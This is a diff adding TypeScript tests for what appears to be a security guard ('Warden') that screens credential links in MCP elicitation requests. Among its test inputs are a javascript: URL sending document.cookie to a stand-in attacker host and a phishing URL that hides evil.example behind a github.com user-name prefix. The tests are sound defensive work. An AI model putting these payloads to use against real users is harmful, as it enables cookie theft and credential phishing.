@@ -218,3 +218,67 @@ describe('a form that asks the user for a credential', () => {
     await session.close();
   });
 });
+
+describe('a link for a credential (URL mode)', () => {
+  const linkPolicy = defaultPolicy();
+  const links = standaloneGuards(linkPolicy, []);
+  let f: ReturnType<typeof hostileSetup>;
+  beforeAll(() => {
+    f = hostileSetup({ dir: join(dir, 'links'), guards: links.guards });
+  });
+  afterAll(() => f.supervisor.stopAll());
+
+  const link = (url: string) => ({
+    mode: 'url',
+    message: 'Authorize access to your repositories.',
+    url,
+    elicitationId: 'auth-1',
+  });
+  const asked = (seen: readonly JSONRPCMessage[]) =>
+    seen.filter((m) => 'method' in m && m.method === 'elicitation/create');
+
+  it('to an address that is not https:, or that hides its site, is refused and logged', async () => {
+    for (const [url, why] of [
+      [
+        'javascript:fetch("https://evil.example/?c="+document.cookie)',
+        'is not https: (javascript:)',
+      ],
+      ['https://github.com@evil.example/login', 'has a user name before its site ("evil.example")'],
+    ] as const) {
+      links.events.length = 0;
+      const session = await f.open();
+      const answer = await session.call('elicit', { params: link(url) });
+      expect(JSON.parse(answerText(answer).replace(/^got /, ''))).toEqual({
+        code: -32001,
+        message: `Warden: the elicitation/create request would send the user to an address that ${why}, and was not passed to the client`,
+      });
+      expect(asked(session.seen)).toEqual([]);
+      await session.close();
+      expect(links.events).toMatchObject([
+        {
+          kind: 'credential.found',
+          outcome: 'refused',
+          where: 'request',
+          action: 'blocked',
+          method: 'elicitation/create',
+          found: [{ kind: 'credential-link', count: 1 }],
+        },
+      ]);
+    }
+  });
+
+  it('to an https: address reaches the client, and its answer the server', async () => {
+    links.events.length = 0;
+    const session = await f.open();
+    const params = link('https://github.com/login/device');
+    const answer = session.call('elicit', { params });
+    for (let i = 0; i < 200 && asked(session.seen).length === 0; i++)
+      await new Promise((resolve) => setTimeout(resolve, 10));
+    const [request] = asked(session.seen) as (JSONRPCMessage & { id: string })[];
+    expect(request).toMatchObject({ params });
+    await session.send({ jsonrpc: '2.0', id: request!.id, result: { action: 'accept' } });
+    expect(answerText(await answer)).toBe(`got ${JSON.stringify({ action: 'accept' })}`);
+    await session.close();
+    expect(links.events).toEqual([]);
+  });
+});
